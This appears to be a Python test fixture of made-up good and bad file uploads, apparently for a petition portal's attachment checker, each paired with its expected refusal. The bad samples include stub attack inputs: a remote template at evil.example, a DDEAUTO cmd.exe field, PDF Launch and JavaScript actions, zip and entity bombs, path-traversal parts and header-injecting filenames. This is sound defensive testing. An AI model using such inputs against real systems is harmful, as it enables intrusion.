"""Good and bad files with the answer each must get, written apart from the code."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from tests.files.attachments import build as b

MACRO = "The file carries macros."
INNER = "The file carries another file or program inside it."
CALLS = "The file would fetch content from elsewhere when opened."
HIDDEN = "Another file is hidden inside this one."
BOMB = "The file would unpack to far more than its size."
BROKEN = "The file is damaged or its structure is not genuine."
LOCKED = "The file is locked with a password."
OUTSIDE = "The file contains a part that points outside itself."
ACTIVE = "The PDF contains a program or a command."
UNSEEN = "The PDF cannot be examined."
PICTURE = "The picture is damaged."
FLOOD = "The picture has more than 50 million pixels."
PAGE = "The file is a web page, drawing or script, not plain text."
NOT_TEXT = "The text cannot be read."
NAME = "The file's name contains hidden or control characters."


def disguise(ending: str) -> str:
    return f"The name ends in {ending}, but the content is something else."


def really(ending: str, found: str) -> str:
    return f"The name ends in {ending}, but the content is {found}."


def not_accepted(ending: str) -> str:
    return f"Files of this type are not accepted: {ending}"


@dataclass(frozen=True)
class Sample:
    """One made-up file: what it is, its name, its bytes, and the refusal (None: accepted)."""

    title: str
    name: str
    make: Callable[[], bytes]
    refusal: str | None = None


GOOD = [
    Sample("a letter in Word", "申诉书.docx", b.word),
    Sample(
        "a Word file with a web link",
        "a.docx",
        lambda: b.word(
            {"word/_rels/document.xml.rels": b.relations("hyperlink", "https://www.12309.gov.cn/")}
        ),
    ),
    Sample(
        "a Word file with the office's own template",
        "a.docx",
        lambda: b.word(
            {
                "word/_rels/settings.xml.rels": b.relations(
                    "attachedTemplate", "file:///C:\\模板\\公文.dotx"
                )
            }
        ),
    ),
    Sample(
        "a Word file with a chart and its workbook",
        "a.docx",
        lambda: b.word({"word/embeddings/Microsoft_Excel_Sheet.xlsx": b.sheet()}),
    ),
    Sample("a spreadsheet with formulas", "清单.xlsx", b.sheet),
    Sample("an electronic invoice in OFD", "发票.ofd", b.ofd),
    Sample("an old Word file", "old.doc", lambda: b.compound("WordDocument", "1Table")),
    Sample(
        "an old Word file that speaks of macros",
        "old.doc",
        lambda: b.compound("WordDocument", body=" Macros and VBA".encode("utf-16-le")),
    ),
    Sample("an old workbook", "old.xls", lambda: b.compound("Workbook")),
    Sample("a PDF", "判决书.PDF", b.pdf),
    Sample(
        "a PDF with packed page objects",
        "a.pdf",
        lambda: b.packed_pdf(b"<</Type/Page>> <</Type/Font>>"),
    ),
    Sample(
        "a PDF with a link",
        "a.pdf",
        lambda: b.pdf(b"3 0 obj\n<</S/URI/URI(https://example.org/)>>\nendobj\n"),
    ),
    Sample("a text in UTF-8", "a.txt", lambda: "我不服该决定。\r\n".encode()),
    Sample("a text in GB 18030", "a.txt", lambda: "我不服该决定，请求监督。".encode("gb18030")),
    Sample("a photograph with its place", "照片.jpg", b.located_jpeg),
    Sample("a photograph called jpeg", "a.JPEG", lambda: b.picture("JPEG")),
    Sample("a PNG", "a.png", lambda: b.picture("PNG")),
    Sample("a GIF", "a.gif", lambda: b.picture("GIF")),
    Sample("a WebP", "a.webp", lambda: b.picture("WEBP")),
    Sample("a lossless WebP", "a.webp", lambda: b.picture("WEBP", lossless=True)),
    Sample("a scan in TIFF", "a.tif", lambda: b.picture("TIFF")),
    Sample("a BMP", "a.bmp", lambda: b.picture("BMP")),
    Sample("a recording", "a.wav", b.sound),
    Sample("an MP3", "a.mp3", lambda: b"ID3\x03\0\0\0\0\0\0\xff\xfb\x90\0" + b"\0" * 400),
    Sample("a phone's recording", "a.m4a", lambda: b.movie(b"M4A ")),
    Sample("an AMR recording", "a.amr", lambda: b"#!AMR\n\x3c" + b"\0" * 60),
    Sample("a video", "a.mp4", lambda: b.movie(b"isom")),
]

BAD = [
    Sample("an empty file", "a.pdf", lambda: b"", "The file is empty."),
    Sample(
        "a macro in a docx", "a.docx", lambda: b.word({"word/vbaProject.bin": b.OLE + b"x"}), MACRO
    ),
    Sample(
        "a macro under another name",
        "a.docx",
        lambda: b.word(
            {"word/_rels/document.xml.rels": b.relations("vbaProject", "data.bin", external=False)}
        ),
        MACRO,
    ),
    Sample("a macro document renamed docx", "a.docx", b.word_with_macro_type, MACRO),
    Sample("a docm", "a.docm", b.word_with_macro_type, MACRO),
    Sample(
        "an Excel 4 macro sheet in xlsx",
        "a.xlsx",
        lambda: b.sheet({"xl/macrosheets/sheet1.xml": "<m/>"}),
        MACRO,
    ),
    Sample(
        "an embedded package",
        "a.docx",
        lambda: b.word({"word/embeddings/oleObject1.bin": b.OLE}),
        INNER,
    ),
    Sample(
        "an object under a harmless name",
        "a.docx",
        lambda: b.word({"word/media/image1.png": b.OLE + b"x"}),
        INNER,
    ),
    Sample(
        "an ActiveX control", "a.docx", lambda: b.word({"word/activeX/activeX1.xml": "<x/>"}), INNER
    ),
    Sample(
        "a program in a docx", "a.docx", lambda: b.word({"word/media/image1.png": b.PROGRAM}), INNER
    ),
    Sample(
        "a zip in a docx",
        "a.docx",
        lambda: b.word({"word/media/a.bin": b.zipped({"x": "y"})}),
        INNER,
    ),
    Sample(
        "a macro in an embedded workbook",
        "a.docx",
        lambda: b.word({"word/embeddings/Sheet1.xlsx": b.sheet({"xl/vbaProject.bin": b.OLE})}),
        MACRO,
    ),
    Sample(
        "workbooks nested twice",
        "a.docx",
        lambda: b.word({"word/embeddings/a.docx": b.word({"word/embeddings/b.xlsx": b.sheet()})}),
        INNER,
    ),
    Sample(
        "a remote template",
        "a.docx",
        lambda: b.word(
            {
                "word/_rels/settings.xml.rels": b.relations(
                    "attachedTemplate", "https://evil.example/t.dotm"
                )
            }
        ),
        CALLS,
    ),
    Sample(
        "a template on a share",
        "a.docx",
        lambda: b.word(
            {
                "word/_rels/settings.xml.rels": b.relations(
                    "attachedTemplate", "file://evil.example/t.dotm"
                )
            }
        ),
        CALLS,
    ),
    Sample(
        "a remote object after a space",
        "a.docx",
        lambda: b.word(
            {"word/_rels/document.xml.rels": b.relations("oleObject", " \\\\10.0.0.1\\x")}
        ),
        CALLS,
    ),
    Sample(
        "a DDE field",
        "a.docx",
        lambda: b.word(text='<instrText>DDEAUTO c:\\\\cmd.exe "/k"</instrText>'),
        CALLS,
    ),
    Sample(
        "a DDE link in a workbook",
        "a.xlsx",
        lambda: b.sheet(
            {
                "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
            }
        ),
        CALLS,
    ),
    Sample(
        "an entity bomb",
        "a.docx",
        lambda: b.word(
            {"word/styles.xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}
        ),
        BROKEN,
    ),
    Sample(
        "an entity bomb behind a long comment",
        "a.docx",
        lambda: b.word(
            {"word/styles.xml": f"<!--{'x' * 5000}--><!DOCTYPE x [<!ENTITY a 'a'>]><x/>"}
        ),
        BROKEN,
    ),
    Sample("a zip bomb", "a.docx", b.bomb, BOMB),
    Sample("thousands of entries", "a.docx", b.many_entries, BOMB),
    Sample("a lying header", "a.docx", b.lying_size, BOMB),
    Sample("overlapping entries", "a.docx", b.overlapping, BROKEN),
    Sample(
        "a part climbing out", "a.docx", lambda: b.word({"../../etc/cron.d/x.xml": "<x/>"}), OUTSIDE
    ),
    Sample(
        "a part climbing out the Windows way",
        "a.ofd",
        lambda: b.ofd({"..\\..\\x.xml": "<x/>"}),
        OUTSIDE,
    ),
    Sample("a part with an absolute path", "a.ofd", lambda: b.ofd({"/etc/passwd": "x"}), OUTSIDE),
    Sample("an encrypted zip", "a.docx", b.locked_zip, LOCKED),
    Sample("a zip with something after it", "a.docx", lambda: b.word() + b"tail", BROKEN),
    Sample("a zip with a page before it", "a.docx", lambda: b"PK\x03\x04<html>" + b.word(), BROKEN),
    Sample(
        "a plain zip renamed docx", "a.docx", lambda: b.zipped({"x.txt": "y"}), disguise(".docx")
    ),
    Sample("a workbook renamed docx", "a.docx", b.sheet, disguise(".docx")),
    Sample("a plain zip renamed ofd", "a.ofd", lambda: b.zipped({"x.txt": "y"}), disguise(".ofd")),
    Sample(
        "a program in an OFD", "a.ofd", lambda: b.ofd({"Doc_0/Attachs/a.dat": b.PROGRAM}), INNER
    ),
    Sample(
        "a locked docx",
        "a.docx",
        lambda: b.compound("EncryptedPackage"),
        "The file is locked with a password or saved in an old format.",
    ),
    Sample(
        "an old Word file with macros", "a.doc", lambda: b.compound("WordDocument", "Macros"), MACRO
    ),
    Sample(
        "an old workbook with macros",
        "a.xls",
        lambda: b.compound("Workbook", "_VBA_PROJECT_CUR"),
        MACRO,
    ),
    Sample("an old workbook with a macro sheet", "a.xls", b.macro_sheet, MACRO),
    Sample("an old workbook with a password", "a.xls", b.locked_workbook, LOCKED),
    Sample(
        "an old Word file with a package",
        "a.doc",
        lambda: b.compound("WordDocument", "\x01Ole10Native"),
        INNER,
    ),
    Sample("an installer renamed doc", "a.doc", lambda: b.compound("!Tables"), disguise(".doc")),
    Sample(
        "a PDF with a script",
        "a.pdf",
        lambda: b.pdf(trailer=b"/OpenAction<</S/JavaScript/JS(x)>>"),
        ACTIVE,
    ),
    Sample(
        "a script spelt with escapes",
        "a.pdf",
        lambda: b.pdf(trailer=b"/OpenAction<</S/J#61va#53cript>>"),
        ACTIVE,
    ),
    Sample(
        "a script in an object stream",
        "a.pdf",
        lambda: b.packed_pdf(b"<</S/JavaScript/JS(app.alert)>>"),
        ACTIVE,
    ),
    Sample(
        "a script in an unmarked object stream",
        "a.pdf",
        lambda: b.packed_pdf(b"<</S/Launch/F(x)>>", mark=b"/Type 9 0 R"),
        ACTIVE,
    ),
    Sample(
        "an object stream packed oddly",
        "a.pdf",
        lambda: b.packed_pdf(b"<</S/JavaScript>>", encode=False),
        UNSEEN,
    ),
    Sample(
        "a PDF that starts a program",
        "a.pdf",
        lambda: b.pdf(trailer=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        ACTIVE,
    ),
    Sample(
        "a PDF with files inside",
        "a.pdf",
        lambda: b.pdf(trailer=b"/Names<</EmbeddedFiles 4 0 R>>"),
        INNER,
    ),
    Sample("a PDF with a password", "a.pdf", lambda: b.pdf(trailer=b"/Encrypt 6 0 R"), LOCKED),
    Sample("a PDF that is also a zip", "a.pdf", lambda: b.pdf() + b.zipped({"x": "y"}), HIDDEN),
    Sample("a PDF bomb", "a.pdf", lambda: b.packed_pdf(b"<<>>" + b" " * (70 * 1024 * 1024)), BOMB),
    Sample(
        "a GIF that is also a zip", "a.gif", lambda: b.picture("GIF") + b.zipped({"x": "y"}), HIDDEN
    ),
    Sample(
        "a page in a photograph's comment",
        "a.jpg",
        lambda: b.picture("JPEG", comment=b"<HTML><Script>alert(1)</script>"),
        HIDDEN,
    ),
    Sample("a program after a picture", "a.png", lambda: b.picture("PNG") + b.PROGRAM, HIDDEN),
    Sample("a PDF after a picture", "a.bmp", lambda: b.picture("BMP") + b.pdf(), HIDDEN),
    Sample(
        "an archive after a video",
        "a.mp4",
        lambda: b.movie(b"isom") + b"Rar!\x1a\x07\x01\x00",
        HIDDEN,
    ),
    Sample("a pixel flood in PNG", "a.png", b.huge_png, FLOOD),
    Sample("a pixel flood in WebP", "a.webp", b.huge_webp, FLOOD),
    Sample("a broken picture", "a.png", lambda: b"\x89PNG\r\n\x1a\n" + b"x" * 40, PICTURE),
    Sample("a program renamed pdf", "a.pdf", lambda: b.PROGRAM, really(".pdf", ".exe")),
    Sample("a picture renamed pdf", "a.pdf", lambda: b.picture("PNG"), really(".pdf", ".png")),
    Sample(
        "a page renamed jpg",
        "a.jpg",
        lambda: b"<html><script>1</script></html>",
        really(".jpg", ".html"),
    ),
    Sample(
        "a page renamed doc",
        "a.doc",
        lambda: b"<table><tr><td>1</td></tr></table>" * 9,
        disguise(".doc"),
    ),
    Sample("a page renamed txt", "a.txt", lambda: b"\n <script>alert(1)</script>", PAGE),
    Sample("bytes renamed txt", "a.txt", lambda: bytes(range(256)), NOT_TEXT),
    Sample("an SVG", "a.svg", lambda: b"<svg onload='x'/>", not_accepted(".svg")),
    Sample("a page", "a.html", lambda: b"<html/>", not_accepted(".html")),
    Sample("a script", "a.js", lambda: b"x", not_accepted(".js")),
    Sample(
        "a program behind a double ending",
        "判决书.pdf.exe",
        lambda: b.PROGRAM,
        not_accepted(".exe"),
    ),
    Sample("a zip", "a.zip", lambda: b.zipped({"x": "y"}), not_accepted(".zip")),
    Sample("a name without ending", "判决书", b.pdf, not_accepted("?")),
    Sample("a name written backwards", "a\u202efdp.exe.pdf", b.pdf, NAME),
    Sample("a name with a line break", "a\r\nSet-Cookie: x.pdf", b.pdf, NAME),
    Sample("a name with a folder", "../../etc/x.pdf", b.pdf, "The file's name contains a folder."),
    Sample(
        "a name too long",
        "长" * 300 + ".pdf",
        b.pdf,
        "The file's name is longer than 200 characters.",
    ),
]
